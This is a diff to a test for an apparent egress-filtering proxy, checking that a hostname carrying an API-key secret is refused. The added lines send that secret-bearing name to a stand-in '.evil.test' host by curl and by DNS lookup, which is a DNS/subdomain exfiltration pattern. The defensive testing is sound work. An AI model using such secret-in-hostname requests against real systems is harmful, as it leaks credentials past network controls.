@@ -438,6 +438,11 @@ def test_sub_domain_carrying_the_secret_is_refused_before_any_lookup(bottle: Bot
     assert status == 403
     rec = _wait_for(bottle, lambda r: r.get("kind") == "dlp" and r.get("where") == "host", "a refused name")
     assert rec["secret"] == "ANTHROPIC_API_KEY" and rec["method"] == "CONNECT"
+    # the same name outside the allowlist (refused anyway), and asked of the bottle's DNS: the name is
+    # in no log line either
+    assert bottle.curl(f"https://{name.replace('.wild.test', '.evil.test')}/")[0] == 403
+    bottle.sh(f"getent hosts {name.replace('.wild.test', '.evil.test')}; true")
+    _wait_for(bottle, lambda r: r.get("source") == "dns" and r.get("verdict") == "deny", "a refused query")
     bottle.curl("https://nothing-secret.wild.test/")  # same entry, no secret: looked up, not refused
     _wait_for(bottle, lambda r: r.get("host") == "nothing-secret.wild.test" and r.get("rule") != "dlp",
               "a looked-up name")
